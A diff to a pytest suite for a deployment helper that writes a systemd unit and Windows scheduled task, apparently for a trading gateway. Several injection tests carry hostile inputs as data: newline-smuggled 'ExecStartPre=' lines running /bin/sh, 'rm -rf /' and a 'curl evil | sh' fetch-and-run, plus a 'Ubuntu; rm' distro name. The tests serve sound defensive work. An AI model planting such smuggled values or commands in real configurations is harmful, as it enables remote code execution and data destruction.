@@ -30,11 +30,80 @@ def test_systemd_unit_is_notify_type_with_absolute_paths_and_no_retry_codes():
     service = unit["Service"]
     assert service["Type"] == "notify" and service["NotifyAccess"] == "all"
     assert service["ExecStart"] == f"{REPO_ROOT}/docker/gateway/scripts/production-startup.sh --supervise"
-    assert service["WorkingDirectory"] == str(REPO_ROOT) and service["EnvironmentFile"] == f"-{REPO_ROOT}/.env"
-    assert service["Restart"] == "on-failure" and service["RestartPreventExitStatus"] == "77 78"
+    assert service["WorkingDirectory"] == str(REPO_ROOT)
+    assert service["Restart"] == "on-failure" and service["RestartPreventExitStatus"] == "76 77 78"
     assert service["User"] == "trader"
     assert int(service["TimeoutStartSec"]) >= 60 + 2 * 120 + 180 + 30
-    assert unit["Unit"]["StartLimitIntervalSec"] and unit["Unit"]["StartLimitBurst"]
+
+
+def test_systemd_never_reads_dotenv_itself():
+    """systemd's EnvironmentFile= grammar is not .env's (`GAMEPLAN_PATH=/srv/plan.json # analyst` became a
+    missing plan under systemd only) and its values would win: only the orchestrator reads .env."""
+    text = deploy.systemd_unit(OrchestrationConfig(), user="trader")
+    assert "EnvironmentFile" not in unit_sections(text)["Service"]
+    assert not [line for line in text.splitlines() if line.startswith(("EnvironmentFile", "Environment="))]
+
+
+@pytest.mark.parametrize("changes", [{}, {"gateway_health_timeout": 3600, "twofa_wait_timeout": 600},
+                                     {"docker_wait_timeout": 0, "gateway_health_timeout": 1}])
+def test_start_limit_interval_holds_the_burst_of_failing_starts(changes):
+    """A start that fails at TimeoutStartSec, then RestartSec: StartLimitBurst of them must fit in
+    StartLimitIntervalSec, or the limit is never reached and a broken Gateway is retried forever."""
+    unit = unit_sections(deploy.systemd_unit(OrchestrationConfig(**changes), user="trader"))
+    burst, interval = int(unit["Unit"]["StartLimitBurst"]), int(unit["Unit"]["StartLimitIntervalSec"])
+    timeout, restart = int(unit["Service"]["TimeoutStartSec"]), int(unit["Service"]["RestartSec"])
+    assert burst >= 2 and interval >= burst * (timeout + restart)
+
+
+@pytest.mark.parametrize(("repo", "user"), [
+    ("/opt/ibkr 100%", "trader"),
+    ("/opt/my repo", "trader"),
+    ('/opt/ib"kr', "trader"),
+    ("/opt/ib'kr", "trader"),
+    ("/opt/ibkr\nExecStartPre=/bin/sh", "trader"),
+    ("/opt/ibkr", "trader\nExecStartPre=/bin/rm -rf /"),
+    ("/opt/ibkr", "tra der"),
+    ("/opt/ibkr", "%n"),
+    ("/opt/ibkr", ""),
+])
+def test_the_unit_refuses_what_it_cannot_write_literally(tmp_path, repo, user):
+    with pytest.raises(deploy.DeployError) as refused:
+        deploy.systemd_unit(OrchestrationConfig(), repo=tmp_path / repo.lstrip("/"), user=user)
+    message = str(refused.value)
+    assert message.startswith("refusing to write the file: ") and "\n" not in message
+
+
+@pytest.mark.parametrize(("repo", "distro"), [
+    ("/opt/ibkr %USERPROFILE%", "Ubuntu"),
+    ("/opt/my repo", "Ubuntu"),
+    ('/opt/ib"kr', "Ubuntu"),
+    ("/opt/ibkr", "Ubuntu 24.04"),
+    ("/opt/ibkr", "Ubuntu\t"),
+    ("/opt/ibkr", "Ubuntu\r\n--exec"),
+    ("/opt/ibkr", ""),
+])
+def test_the_task_refuses_what_it_cannot_write_literally(tmp_path, repo, distro):
+    with pytest.raises(deploy.DeployError) as refused:
+        deploy.task_xml(repo=tmp_path / repo.lstrip("/"), distro=distro)
+    assert "\n" not in str(refused.value)
+
+
+def test_cli_refuses_an_injected_user_name_with_one_line_and_exit_1(monkeypatch, capsys):
+    """getpass reads LOGNAME first: a newline in it used to write an ExecStartPre= into the unit."""
+    monkeypatch.setenv("LOGNAME", "trader\nExecStartPre=/bin/sh -c 'curl evil | sh'")
+    assert startup.main(["--print-systemd-unit"], environ={}) == 1
+    captured = capsys.readouterr()
+    assert captured.out == ""
+    assert captured.err.startswith("startup: refusing to write the file: user name ") and \
+        captured.err.count("\n") == 1
+
+
+def test_cli_refuses_a_distro_with_spaces_with_one_line_and_exit_1(capsys):
+    assert startup.main(["--print-task-xml", "--wsl-distro", "Ubuntu; rm"], environ={}) == 1
+    captured = capsys.readouterr()
+    assert captured.out == "" and captured.err == (
+        "startup: refusing to write the file: WSL distribution 'Ubuntu; rm' must be letters, digits, '_', '.', "
+        "'-' (no spaces or control characters)\n")
 
 
 def test_systemd_analyze_verify_accepts_the_unit(tmp_path):
@@ -56,6 +125,22 @@ def test_task_xml_is_well_formed_in_the_task_scheduler_namespace():
     assert root.find("t:Actions/t:Exec/t:Command", NS).text == "wsl.exe"
     arguments = root.find("t:Actions/t:Exec/t:Arguments", NS).text
     assert arguments == f"-d Ubuntu-24.04 -- {REPO_ROOT}/docker/gateway/scripts/production-startup.sh --supervise"
+
+
+def test_task_relaunches_a_dead_supervisor_without_ever_running_two():
+    """RestartOnFailure does not fire when the action exits non-zero: the logon trigger repeats, and
+    IgnoreNew makes a repetition a no-op while the supervisor runs."""
+    root = ET.fromstring(deploy.task_xml())
+    triggers = list(root.find("t:Triggers", NS))
+    assert [trigger.tag for trigger in triggers] == [f"{{{deploy.TASK_NAMESPACE}}}LogonTrigger"]
+    logon = triggers[0]
+    # Task Scheduler reads the trigger as the schema's sequence: Repetition first, Delay last.
+    assert [child.tag.split("}")[1] for child in logon] == ["Repetition", "Enabled", "Delay"]
+    interval = logon.find("t:Repetition/t:Interval", NS).text
+    assert interval == "PT15M"
+    assert logon.find("t:Repetition/t:Duration", NS) is None  # repeated indefinitely
+    assert logon.find("t:Repetition/t:StopAtDurationEnd", NS).text == "false"  # never stops the supervisor
+    assert root.find("t:Settings/t:MultipleInstancesPolicy", NS).text == "IgnoreNew"
 
 
 @pytest.mark.parametrize("flag", ["--print-systemd-unit", "--print-task-xml"])
